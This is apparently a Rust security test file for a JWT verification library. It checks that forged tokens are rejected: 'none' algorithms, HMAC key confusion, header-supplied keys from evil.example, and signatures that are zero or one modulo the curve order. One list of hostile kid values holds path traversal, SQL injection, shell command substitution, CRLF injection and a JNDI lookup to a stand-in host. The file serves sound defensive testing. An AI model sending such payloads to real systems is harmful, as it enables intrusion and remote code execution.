//! The classes of faults that libraries of JWTs had with headers, keys and signatures, where no other
//! test has them. SECURITY.md lists all of them, with examples.

use claimgate::{
    Algorithm, Code, Issuer, ParseError, Untrusted, Validation, limits,
    signature::{InvalidSignature, PublicKey, SignatureAlgorithm, ring},
};
use num_bigint::BigUint;
use serde_json::{Value, json};

use crate::{
    support::{AUDIENCE, THEN, encode, header, jwk, key_set, sample, sign_raw},
    token::verdict,
    wycheproof::{KERNEL, public_key},
};

/// The verdict on the sample's claims under another header, signed right.
fn with_header(changes: Value) -> Option<Code> {
    verdict(&merged(changes), sample().to_string().as_bytes())
}

/// The ordinary header with some members changed.
fn merged(changes: Value) -> String {
    let mut merged: Value = serde_json::from_str(&header("rsa", "RS256")).unwrap();
    merged.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
    merged.to_string()
}

#[test]
fn no_spelling_of_none_is_an_algorithm() {
    for alg in ["none", "None", "NONE", "nOnE", "none ", "n\u{f6}ne", "none\0", "null", ""] {
        assert_eq!(with_header(json!({ "alg": alg })), Some(Code::AlgorithmUnsupported), "{alg:?}");
        let unsigned = format!("{}.{}.", encode(merged(json!({ "alg": alg }))), encode(sample().to_string()));
        let error = Untrusted::parse(&unsigned).err().unwrap();
        assert_eq!(error.code(), Code::AlgorithmUnsupported, "{alg:?}");
    }
    for alg in [json!(null), json!(["RS256"]), json!({ "RS256": true }), json!(0)] {
        assert_eq!(with_header(json!({ "alg": alg })), Some(Code::TokenHeader), "{alg}");
    }
}

/// That a public key is not taken for the secret of an HMAC is seen with the other libraries, in
/// `tests/peers`. Here there is no HMAC to take it.
#[test]
fn there_are_no_secrets_to_guess_or_to_confuse_a_key_with() {
    for alg in ["HS256", "HS384", "HS512", "hs256"] {
        assert_eq!(with_header(json!({ "alg": alg })), Some(Code::AlgorithmUnsupported), "{alg}");
        for key in [
            json!({ "kty": "oct", "k": "" }),
            json!({ "kty": "oct", "k": "c2VjcmV0" }),
            jwk("rsa", json!({})),
        ] {
            let mut key = key;
            (key["alg"], key["kid"]) = (json!(alg), json!("rsa"));
            assert_eq!(key_set(&Issuer::github(), &[key]).usable().count(), 0, "{alg}");
        }
    }
}

#[test]
fn keys_in_the_header_are_not_used() {
    let stranger = jwk("rsa-other", json!({}));
    for parameter in [
        json!({ "jwk": stranger }),
        json!({ "jku": "https://evil.example/.well-known/jwks" }),
        json!({ "x5u": "https://evil.example/certificate.pem" }),
        json!({ "x5c": ["MIIB"] }),
        json!({ "x5t": "AAAA", "x5t#S256": "AAAA" }),
    ] {
        let code = |kid: &str| {
            let mut header = parameter.clone();
            header["kid"] = json!(kid);
            let payload = sample().to_string();
            let token = sign_raw("rsa-other", "RS256", &merged(header), payload.as_bytes());
            let keys = key_set(&Issuer::github(), &[jwk("rsa", json!({}))]);
            let validation = Validation::new(Issuer::github(), AUDIENCE);
            Untrusted::parse(&token).unwrap().verify(&validation, &keys, THEN).unwrap_err().code()
        };
        assert_eq!(code("rsa"), Code::SignatureInvalid, "{parameter}");
        assert_eq!(code("rsa-other"), Code::KeyUnknown, "{parameter}");
    }
}

#[test]
fn a_kid_is_a_name_and_nothing_else() {
    let validation = Validation::new(Issuer::github(), AUDIENCE);
    let keys = key_set(validation.issuer(), &[jwk("rsa", json!({}))]);
    let longest = "k".repeat(limits::KEY_ID_BYTES);
    for kid in [
        "../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "C:\\Windows\\win.ini",
        "https://evil.example/.well-known/jwks",
        "rsa' OR '1'='1",
        "x' UNION SELECT 'AAAA'; --",
        "rsa; sleep 10",
        "$(id)",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "__proto__",
        "constructor",
        "rsa\0",
        "rsa\r\nX-Injected: 1",
        "\u{1b}[2Jrsa",
        "\u{202e}asr",
        "RSA",
        " rsa",
        "rsa ",
        "r*",
        "rs\u{430}",
        &longest,
    ] {
        let token = sign_raw("rsa", "RS256", &merged(json!({ "kid": kid })), sample().to_string().as_bytes());
        let error = Untrusted::parse(&token).unwrap().verify(&validation, &keys, THEN).unwrap_err();
        assert_eq!(error.code(), Code::KeyUnknown, "{kid:?}");
        let message = error.to_string();
        assert!(!message.chars().any(|c| c.is_control() || c == '\u{202e}'), "{message:?}");
    }
    for kid in [json!(format!("{longest}k")), json!(["rsa"]), json!({ "rsa": 1 }), json!(0), json!(true)] {
        assert_eq!(with_header(json!({ "kid": kid })), Some(Code::TokenHeader), "{kid}");
    }
}

/// Zeros, and numbers that are zero or one modulo the order, for which sloppy arithmetic finds that
/// both sides are the same.
#[test]
fn signatures_that_would_hold_for_anything_hold_for_nothing() {
    let number = |hex: &str| BigUint::parse_bytes(hex.as_bytes(), 16).unwrap();
    let bytes = |number: &BigUint, size: usize| {
        let bytes = number.to_bytes_be();
        [vec![0; size - bytes.len()], bytes].concat()
    };
    let one = BigUint::from(1_u8);
    let refuse = |algorithm: &'static dyn SignatureAlgorithm, key: &PublicKey, signature: &[u8]| {
        let key = algorithm.prepare(key.clone());
        for message in [&b""[..], b"claimgate"] {
            assert_eq!(key.verify(message, signature), Err(InvalidSignature), "{signature:x?}");
        }
    };

    let p256 = [
        "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
        "ffffffff00000001000000000000000000000000ffffffffffffffffffffffff",
    ];
    let p384 = [
        "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
        "fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffeffffffff0000000000000000ffffffff",
    ];
    for (algorithm, name, size, [n, p]) in [(ring::ES256, "p256", 32, p256), (ring::ES384, "p384", 48, p384)]
    {
        let key = public_key(algorithm.algorithm(), &jwk(name, json!({}))).unwrap();
        let (n, p) = (number(n), number(p));
        let largest = (&one << (8 * size)) - &one;
        let numbers = [BigUint::ZERO, one.clone(), &n - &one, n.clone(), &n + &one, p, largest];
        for r in &numbers {
            for s in &numbers {
                refuse(algorithm, &key, &[bytes(r, size), bytes(s, size)].concat());
            }
        }
    }

    let key = public_key(Algorithm::EdDsa, &jwk("ed25519", json!({}))).unwrap();
    let order = number("1000000000000000000000000000000014def9dea2f79cd65812631a5cf5d3ed");
    for r in [[&[0][..], &[0; 31]].concat(), [&[1][..], &[0; 31]].concat()] {
        for s in [&BigUint::ZERO, &one, &order] {
            let mut s = bytes(s, 32);
            s.reverse();
            refuse(ring::EDDSA, &key, &[r.clone(), s].concat());
        }
    }

    for algorithm in ring::ALL.iter().chain(KERNEL) {
        let Some(key @ PublicKey::Rsa { n, .. }) =
            &public_key(algorithm.algorithm(), &jwk("rsa", json!({ "alg": null })))
        else {
            continue;
        };
        let modulus = BigUint::from_bytes_be(n);
        for base in [BigUint::ZERO, one.clone(), &modulus - &one, modulus.clone(), &modulus + &one] {
            refuse(*algorithm, key, &bytes(&base, n.len()));
        }
    }
}

/// RFC 7516 and the JSON serializations of RFC 7515, section 7.2.
#[test]
fn what_is_encrypted_or_compressed_or_json_is_no_token() {
    for alg in ["RSA1_5", "RSA-OAEP", "RSA-OAEP-256", "dir", "A128KW", "ECDH-ES", "PBES2-HS256+A128KW"] {
        let header = json!({ "alg": alg, "enc": "A256GCM", "p2c": u32::MAX, "p2s": "AAAA", "epk": jwk("p256", json!({})) });
        assert_eq!(with_header(header.clone()), Some(Code::AlgorithmUnsupported), "{alg}");
        let encrypted = format!("{}.AAAA.AAAA.AAAA.AAAA", encode(merged(header)));
        assert_eq!(Untrusted::parse(&encrypted).err(), Some(ParseError::Segments { found: 5 }));
    }
    // These say nothing in a signed token, and are not obeyed either: the payload is what was signed.
    let jwe = merged(json!({ "zip": "DEF", "enc": "A256GCM", "p2c": u32::MAX, "cty": "JWT" }));
    assert_eq!(verdict(&jwe, sample().to_string().as_bytes()), None);
    // The sample's claims as one stored block of raw DEFLATE, which whoever obeyed `zip` would find.
    let claims = sample().to_string();
    let length = u16::try_from(claims.len()).unwrap();
    let deflated = [&[1][..], &length.to_le_bytes(), &(!length).to_le_bytes(), claims.as_bytes()].concat();
    assert_eq!(verdict(&jwe, &deflated), Some(Code::TokenJson));
    let nested = sign_raw("rsa", "RS256", &header("rsa", "RS256"), sample().to_string().as_bytes());
    assert_eq!(verdict(&jwe, nested.as_bytes()), Some(Code::TokenJson));

    let parts: Vec<&str> = nested.split('.').collect();
    let [protected, payload, signature] = parts.as_slice() else { panic!("{nested}") };
    let one = json!({ "protected": protected, "signature": signature, "header": { "kid": "rsa" } });
    for serialized in [
        json!({ "payload": payload, "protected": protected, "signature": signature }),
        json!({ "payload": payload, "signatures": [one] }),
    ] {
        let error = Untrusted::parse(&serialized.to_string()).err().unwrap();
        assert_eq!(error, ParseError::Segments { found: 1 });
    }
}

#[test]
fn many_or_empty_segments_are_counted_and_no_more() {
    let dots = ".".repeat(limits::TOKEN_BYTES);
    let error = Untrusted::parse(&dots).err();
    assert_eq!(error, Some(ParseError::Segments { found: limits::TOKEN_BYTES + 1 }));
    let too_many = format!("{dots}.");
    assert_eq!(Untrusted::parse(&too_many).err().unwrap().code(), Code::TokenTooLarge);
    assert_eq!(Untrusted::parse("..").err().unwrap().code(), Code::TokenJson);
    let (header, payload) = (encode(header("rsa", "RS256")), encode(sample().to_string()));
    let unsigned = format!("{header}.{payload}.");
    let keys = key_set(&Issuer::github(), &[jwk("rsa", json!({}))]);
    let validation = Validation::new(Issuer::github(), AUDIENCE);
    let error = Untrusted::parse(&unsigned).unwrap().verify(&validation, &keys, THEN).unwrap_err();
    assert_eq!(error.code(), Code::SignatureInvalid);
    assert_eq!(
        Untrusted::parse(&format!("{header}.{payload}")).err(),
        Some(ParseError::Segments { found: 2 })
    );
}
